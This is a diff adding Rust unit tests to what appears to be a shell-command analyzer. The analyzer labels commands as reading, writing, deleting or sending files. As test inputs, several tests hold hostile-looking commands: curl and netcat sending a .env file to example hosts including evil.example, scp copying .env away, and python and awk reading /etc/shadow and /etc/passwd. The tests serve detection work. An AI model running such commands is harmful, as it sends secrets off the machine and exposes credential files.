@@ -310,3 +310,148 @@ fn dedup(v: &mut Vec<ShellPath>) {
     let mut seen = HashSet::new();
     v.retain(|p| seen.insert(p.clone()));
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::analyze::testing::{Harness, path, run};
+
+    #[test]
+    fn readers_writers_and_deleters() {
+        assert_eq!(run(&ByRoles, &["cat", "a", "b"]), ["read a", "read b"]);
+        assert_eq!(run(&ByRoles, &["touch", "new"]), ["write new"]);
+        assert_eq!(run(&ByRoles, &["rm", "-rf", "build"]), ["delete build"]);
+        assert_eq!(run(&ByRoles, &["echo", "a", "b"]), Vec::<String>::new());
+    }
+
+    #[test]
+    fn copy_reads_sources_and_writes_the_target() {
+        assert_eq!(
+            run(&ByRoles, &["cp", "a", "b", "dir"]),
+            ["read a", "read b", "write dir"]
+        );
+        assert_eq!(run(&ByRoles, &["cp", "only"]), ["read only"]);
+        // With a target-directory option every positional is a source.
+        assert_eq!(
+            run(&ByRoles, &["cp", "-t", "dir", "a", "b"]),
+            ["write dir", "read a", "read b"]
+        );
+    }
+
+    #[test]
+    fn move_reads_and_deletes_sources_and_writes_the_target() {
+        assert_eq!(
+            run(&ByRoles, &["mv", "a", "b"]),
+            ["read a", "delete a", "write b"]
+        );
+    }
+
+    #[test]
+    fn target_writes_only_the_link() {
+        assert_eq!(
+            run(&ByRoles, &["ln", "-s", "/etc/passwd", "link"]),
+            ["write link"]
+        );
+    }
+
+    #[test]
+    fn a_switch_changes_the_role_and_the_pattern_is_skipped() {
+        assert_eq!(run(&ByRoles, &["sed", "s/a/b/", "f"]), ["read f"]);
+        assert_eq!(
+            run(&ByRoles, &["sed", "-i", "s/a/b/", "f"]),
+            ["read f", "write f"]
+        );
+        assert_eq!(run(&ByRoles, &["grep", "-e", "pat", "f"]), ["read f"]);
+    }
+
+    #[test]
+    fn option_values_with_file_roles() {
+        assert_eq!(
+            run(&ByRoles, &["sort", "-o", "out", "in"]),
+            ["write out", "read in"]
+        );
+        assert_eq!(
+            run(&ByRoles, &["sort", "-o", "/dev/null", "in"]),
+            ["read in"]
+        );
+        assert_eq!(
+            run(&ByRoles, &["make", "-C", "sub", "-f", "Mk"]),
+            ["read sub/Mk"]
+        );
+    }
+
+    #[test]
+    fn request_data_is_read_and_sent() {
+        assert_eq!(
+            run(&ByRoles, &["curl", "-d", "@.env", "https://x.example"]),
+            ["read .env", "send https://x.example [.env]"]
+        );
+        assert_eq!(
+            run(
+                &ByRoles,
+                &[
+                    "curl",
+                    "-F",
+                    "f=@a.txt;type=text/plain",
+                    "https://x.example"
+                ]
+            ),
+            ["read a.txt", "send https://x.example [a.txt]"]
+        );
+        assert_eq!(
+            run(&ByRoles, &["curl", "https://x.example"]),
+            ["connect https://x.example"]
+        );
+        assert_eq!(run(&ByRoles, &["curl", "$U"]), ["connect dynamic $U"]);
+    }
+
+    #[test]
+    fn stdin_is_sent_by_data_at_dash_and_by_netcat() {
+        let piped = || Harness::new().stdin(Stdin::Pipe(vec![path(".env")]));
+        assert_eq!(
+            piped().model(
+                &ByRoles,
+                &["curl", "--data-binary", "@-", "https://x.example"]
+            ),
+            ["send https://x.example [.env]"]
+        );
+        assert_eq!(
+            piped().model(&ByRoles, &["nc", "evil.example", "4444"]),
+            ["send evil.example:4444 [.env]"]
+        );
+        let listen = run(&ByRoles, &["nc", "-l", "4444"]);
+        assert!(
+            listen[0].starts_with("unparseable: nc -l opens a listening socket"),
+            "{listen:?}"
+        );
+    }
+
+    #[test]
+    fn remote_copy_sends_local_files_to_a_remote_target() {
+        assert_eq!(
+            run(&ByRoles, &["scp", ".env", "u@h.example:/tmp/"]),
+            ["read .env", "send h.example:? [.env]"]
+        );
+        assert_eq!(
+            run(&ByRoles, &["scp", "h.example:/etc/passwd", "copy"]),
+            ["connect h.example:?", "write copy"]
+        );
+    }
+
+    #[test]
+    fn options_that_run_code_or_listen() {
+        assert_eq!(
+            run(&ByRoles, &["python3", "-c", "open('/etc/shadow').read()"]),
+            ["read /etc/shadow"]
+        );
+        let computed = run(&ByRoles, &["python3", "-c", "$CODE"]);
+        assert!(
+            computed[0].starts_with("unparseable: python3 -c runs code computed"),
+            "{computed:?}"
+        );
+        assert_eq!(
+            run(&ByRoles, &["awk", "BEGIN { system(\"cat /etc/passwd\") }"]),
+            ["exec cat", "read /etc/passwd"]
+        );
+    }
+}
